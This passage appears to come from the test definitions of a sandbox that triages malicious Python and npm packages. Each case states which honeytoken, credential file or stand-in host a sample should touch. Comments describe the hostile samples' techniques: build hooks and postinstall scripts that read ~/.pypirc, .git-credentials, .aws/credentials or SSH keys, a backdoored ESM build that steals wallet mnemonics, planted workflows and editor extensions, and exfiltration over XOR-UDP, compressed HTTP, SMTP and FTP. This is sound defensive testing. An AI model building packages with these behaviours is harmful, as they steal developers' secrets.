  --event "llm:tools_lite|honeytoken|token~GH_OAUTH_TOKEN")
# A keyring backend, used as keyring uses it (priority read, made, a token
# stored, asked for): one in the middle sends what it stores; its honest
# twin keeps it in a file of its own, which is its job.
triage_built(wheel_keyring_backend_middle keyring keyrings_cache-1.1.0-py3-none-any.whl 1 30 -
  --phase "keyring.backends:cache=ok"
  --event "keyring.backends:cache|honeytoken|token~PYPI_TOKEN|where~http-body|hostname~sync.keyring-cache.test")
triage_built(wheel_keyring_backend_benign keyringok keyrings_plainfile-0.3.0-py3-none-any.whl =0 30 -
  --phase "keyring.backends:plainfile=ok"
  --event "keyring.backends:plainfile|file|path~plain-keyring/store.json"
  --no-event net --no-event dns)
triage_built(wheel_setuptools_hook_once setuponce scm_version_lite-1.0.0-py3-none-any.whl 1 40 -
  --phase "setuptools build=ok"
  --event "setuptools build|honeytoken|token~GITHUB_TOKEN")
# Build-time code of an sdist whose backend the offline host lacks
# (tests/triage/make_hook_sdist.py): the build hooks phase plays the
# backend's conventions with stand-ins. A Hatch custom build hook that
# steals ~/.pypirc; a benign one that stamps a version file; a PDM
# pdm_build.py; a poetry-core build script. The hook files are not
# installed as modules (the exercise does not call them again).
triage_built(sdist_hatch_build_hook hatch env_toml_loader-1.0.2.tar.gz 1 60 -
  --phase "build hooks=ok"
  --event "build hooks|file|path~.pypirc"
  --event "build hooks|honeytoken|token~PYPI_TOKEN")
triage_built(sdist_hatch_build_hook_benign hatchok version_stamp-0.3.0.tar.gz 0 60 -
  --phase "build hooks=ok" --phase import=ok
  --no-event honeytoken --no-event net)
triage_built(sdist_pdm_build_hook pdm pdm_env_sync-2.1.0.tar.gz 1 60 -
  --phase "build hooks=ok"
  --event "build hooks|file|path~.git-credentials"
  --no-match "exercise|file|path~.git-credentials")
triage_built(sdist_poetry_build_script poetry poetry_ext_kit-0.9.1.tar.gz 1 60 -
  --phase "build hooks=ok"
  --event "build hooks|file|path~.aws/credentials"
  --no-match "exercise|file|path~.aws/credentials")
# A dual package whose ESM build alone (exports' "import" condition) is
# backdoored: it looks up its host when loaded and sends the mnemonic its
# key function is handed. The import phases import() it after require; the
# exercise uses the ESM namespace too. Its honest twin's ESM build is
# other code, and stays quiet.
triage_built(npm_dual_esm_build dual mnemonic-codec-3.1.0.tgz 1 40 -
  --phase import=ok --phase exercise=ok
  --event "import|dns|name~cdn.mnemonic-codec.test"
  --event "exercise|honeytoken|token~WALLET_MNEMONIC|where~http-body|hostname~wordlist.mnemonic-codec.test")
triage_built(npm_dual_esm_benign dualok mnemonic-codec-lite-3.1.0.tgz =0 40 -
  --phase import=ok --phase exercise=ok
  --no-event honeytoken --no-event net --no-event dns)
# Code that runs only inside a build tool the jail lacks (a peer
# dependency): the exercise gives the tool a stand-in and plays it
# (profiles/ecosystems/node-hosts.cjs): a Jest environment set up in a CI
# job, a webpack plugin's emit hook, a benign ESLint rule.
triage_built(npm_jest_environment jestenv jest-environment-fetch-node-29.7.2.tgz 1 40 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~GITHUB_TOKEN|hostname~ci-metrics.jest-fetch.test")
triage_built(npm_webpack_plugin webpackplugin webpack-asset-manifest-lite-1.4.0.tgz 1 40 -
  --phase exercise=ok
  --event "exercise|file|path~.npmrc"
  --event "exercise|honeytoken|token~NPM_TOKEN")
triage_built(npm_ts_server_plugin tsplugin ts-plugin-css-modules-lite-2.1.0.tgz 1 40 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~KUBE_TOKEN")
triage_built(npm_eslint_rule_benign eslintok eslint-plugin-no-todo-lite-0.3.0.tgz 0 40 -
  --phase exercise=ok
  --no-event honeytoken --no-event net --no-event dns)
# A postinstall that acts only on a developer's machine: a workflow planted
# in a project that is a GitHub clone, an extension dropped where VS Code
# keeps them. The HOME's workspace entries give it both.
triage_built(npm_workspace_plant workspace release-notes-emoji-2.3.1.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|file|path~project/.github/workflows/cache-warmup.yml"
  --event "lifecycle:postinstall|file|path~.vscode/extensions/rne.release-notes-0.1.0/extension.js")
# Credentials XORed with a key of the sample's and sent over UDP: found
# under the XOR without knowing the key.
triage_built(wheel_xor_udp xorudp ntp_skew_check-2.0.3-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|honeytoken|token~NPM_TOKEN|encoding~xor")
# A plain-text address lookup (api.ipify.org) answered with an address,
# not a shell stub: the sample that checks for a real network goes on.
triage_built(npm_plain_ip_lookup ipfence net-speed-check-1.0.0.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|honeytoken|token~AWS_SECRET_ACCESS_KEY")
# Compressed exfiltration: a gzipped tarball of the credential directories
# uploaded raw, and the environment zlib-compressed under base64 in a JSON
# field; the fake network inflates what it is sent before the token scan.
triage_built(wheel_targz_upload tarexfil dotfile_backup-0.3.2-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|honeytoken|token~AWS_SECRET_ACCESS_KEY|encoding~gzip/raw|where~http-body"
  --event "import|honeytoken|token~SSH_KEY|encoding~gzip/raw|where~http-body"
  --event "import|honeytoken|token~SSH_ED25519_KEY|encoding~gzip/raw|where~http-body")
triage_built(wheel_zlib_env_upload zlibenv env_metrics-1.1.0-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|honeytoken|token~GITHUB_TOKEN|encoding~base64/zlib/raw|where~http-body")
# Mailed loot: smtplib over STARTTLS with a login, the AWS credentials and
# a tar.gz of ~/.ssh as base64 attachments (wrapped at 76 columns); and
# the environment as a mail's text over 465 (TLS from the first byte).
# The fake network greets, answers through DATA, intercepts the TLS.
triage_built(wheel_smtp_starttls_attachments smtpexfil mail_report-0.2.1-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|net|port~587|tls_intercepted~True|smtp~'quit': True"
  --event "import|honeytoken|token~AWS_SECRET_ACCESS_KEY|encoding~base64|where~tcp:|hostname~smtp.mail-drop.test"
  --event "import|honeytoken|token~SSH_KEY|encoding~base64/gzip/raw|where~tcp:")
triage_built(wheel_smtp_implicit_tls_env smtpssl env_mailer-0.1.4-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|net|port~465|tls_intercepted~True|smtp~'quit': True"
  --event "import|honeytoken|token~GITHUB_TOKEN|encoding~raw|where~tcp:|hostname~mx.mail-drop.test")
# Loot uploaded over FTP (ftplib, passive): the fake network greets, takes
# the login, offers a passive port at the address the client connected
# to, and the file arrives on that data connection for the token scan.
triage_built(wheel_ftp_upload ftpexfil ftp_sync_agent-0.5.0-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|net|port~21|ftp~'quit': True"
  --event "import|honeytoken|token~AWS_SECRET_ACCESS_KEY|encoding~raw|where~tcp:|hostname~ftp.files-drop.test"
  --event "import|honeytoken|token~GITHUB_TOKEN|where~tcp:")
